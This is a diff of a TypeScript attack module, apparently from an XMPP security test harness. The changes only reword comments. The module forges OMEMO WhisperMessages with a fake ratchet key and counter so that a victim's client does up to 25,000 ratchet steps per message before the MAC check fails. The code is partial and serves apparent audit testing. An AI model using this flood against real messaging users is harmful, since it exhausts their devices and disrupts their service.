@@ -1,6 +1,6 @@
 /**
- * Attack class "OMEMO", over a session that there really is: a message whose ratchet key and counter are forged costs
- * the receiver up to 25,000 steps of the ratchet before its tag shows that it is forged (finding 7).
+ * Attack class "OMEMO" over an established session: a message with a forged ratchet key and counter costs the receiver
+ * up to 25,000 ratchet steps before the MAC exposes it (finding 7).
  */
 import xml, { type Element } from "@xmpp/xml";
 import type { BareJid } from "../../../shared/jid.ts";
@@ -9,18 +9,18 @@ import { encrypted, OmemoPeer } from "../../peers/omemo-peer.ts";
 import { publishedDevices } from "../../peers/omemo-nodes.ts";
 import type { Attack, Scene } from "../attack.ts";
 
-/** As far ahead as a receiver may have to go. */
+/** The largest number of messages that a receiver may have to skip. */
 const FAR = 24_999;
 const FORGED = 100;
 
-/** Of protobuf (base 128). */
+/** Encodes a protobuf varint (base 128). */
 function varint(value: number): Uint8Array {
   const bytes: number[] = [];
   for (; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 128);
   return Uint8Array.from([...bytes, value]);
 }
 
-/** A WhisperMessage with a new ratchet key, and nothing behind it that is right. */
+/** A WhisperMessage with a new ratchet key and an invalid rest. */
 const forgedKey = (counter: number): Uint8Array =>
   Buffer.concat([
     Uint8Array.of(0x33, 0x0a, 33),
@@ -33,7 +33,7 @@ const forgedKey = (counter: number): Uint8Array =>
     new Uint8Array(48 + 8),
   ]);
 
-/** The hostile account has a real device and a real session with each of the victim's. */
+/** Gives the hostile account a real device and a session with each device of the victim. */
 async function withSession(
   { server, victim, evil }: Scene,
   work: (peer: OmemoPeer, devices: number[]) => Promise<void>,
@@ -50,7 +50,7 @@ async function withSession(
     if (devices.length === 0) return;
     await peer.say(victim.jid as BareJid, "honest");
     await work(peer, devices);
-    // A flood is with the server only when it has answered what came behind it.
+    // The answer to a later request shows that the server has processed the flood.
     await peer.peer.request(xml("iq", { type: "get", id: crypto.randomUUID() }, xml("ping", "urn:xmpp:ping")));
   } finally {
     await peer.peer.stop();
